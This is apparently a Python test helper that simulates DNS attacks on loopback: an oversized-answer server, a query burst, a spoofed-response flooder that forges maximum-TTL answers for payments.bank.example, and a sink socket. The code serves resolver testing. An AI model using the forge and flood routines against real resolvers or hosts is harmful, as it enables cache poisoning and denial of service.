"""DNS attacks for the tests (loopback inside a test namespace only).

  serve BIND                 answer every UDP query on BIND:53 with a maximal answer: the
                             question, a CNAME chain of long names and as many A records (TTL
                             4294967295) as fit in 511 bytes; addresses differ per answer
  ask SERVER COUNT           send COUNT queries (distinct ids and ports) to SERVER:53, each
                             waiting up to 0.5 s for its answer; prints "answered N"
  forge SRC DST PORT SECONDS send crafted 511-byte answers (payments.bank.example, TTL
                             4294967295) from SRC:53 to DST:PORT, as fast as possible, for
                             SECONDS (0: one); prints "sent N"
  victim BIND PORT           a UDP socket on BIND:PORT that reads and drops everything
"""
import socket, struct, sys, time


def encode(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\x00"


def big_answer(qid, question, k):
    """A response to `question` (its wire bytes, from the name to the class) of 511 bytes."""
    hdr_len = 12
    body = question
    records = []
    owner = b"\xc0\x0c"
    chain = ["c%d-%s.big.test" % (i, "x" * 50) for i in range(4)]
    for target in chain:
        records.append(owner + struct.pack(">HHIH", 5, 1, 0xFFFFFFFF, len(encode(target))) + encode(target))
    j = 0
    while hdr_len + len(body) + sum(map(len, records)) + 16 <= 511:
        n = k * 32 + j
        ip = bytes([10, 64 + (n >> 16) % 64, (n >> 8) & 255, n & 255])
        records.append(owner + struct.pack(">HHIH", 1, 1, 0xFFFFFFFF, 4) + ip)
        j += 1
    hdr = struct.pack(">HHHHHH", qid, 0x8180, 1, len(records), 0, 0)
    return hdr + body + b"".join(records)


def question_of(q):
    end = 12
    while q[end] != 0:
        end += q[end] + 1
    return q[12 : end + 5]


def serve(bind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((bind, 53))
    print("listening", flush=True)
    k = 0
    while True:
        q, a = s.recvfrom(512)
        qid = struct.unpack(">H", q[:2])[0]
        s.sendto(big_answer(qid, question_of(q), k), a)
        k += 1


def ask(server, count):
    answered = 0
    socks = []
    for i in range(count):
        if i % 64 == 0:
            for c in socks:
                c.close()
            socks = []
        c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        c.settimeout(0.5)
        socks.append(c)
        qid = (i * 7919) & 0xFFFF
        q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + encode("n%d.big.test" % i) + b"\x00\x01\x00\x01"
        c.sendto(q, (server, 53))
        try:
            c.recv(1024)
            answered += 1
        except OSError:
            pass
    print("answered %d" % answered, flush=True)


def forge(src, dst, port, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 53))
    question = encode("payments.bank.example") + b"\x00\x01\x00\x01"
    packets = [big_answer(i, question, i) for i in range(64)]
    sent = 0
    end = time.monotonic() + seconds
    while True:
        for p in packets:
            try:
                s.sendto(p, (dst, port))
                sent += 1
            except OSError:
                pass
        if time.monotonic() >= end:
            break
    print("sent %d" % sent, flush=True)


def victim(bind, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
    s.bind((bind, port))
    print("listening", flush=True)
    while True:
        s.recv(2048)


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "serve":
        serve(args[0])
    elif cmd == "ask":
        ask(args[0], int(args[1]))
    elif cmd == "forge":
        forge(args[0], args[1], int(args[2]), float(args[3]))
    elif cmd == "victim":
        victim(args[0], int(args[1]))
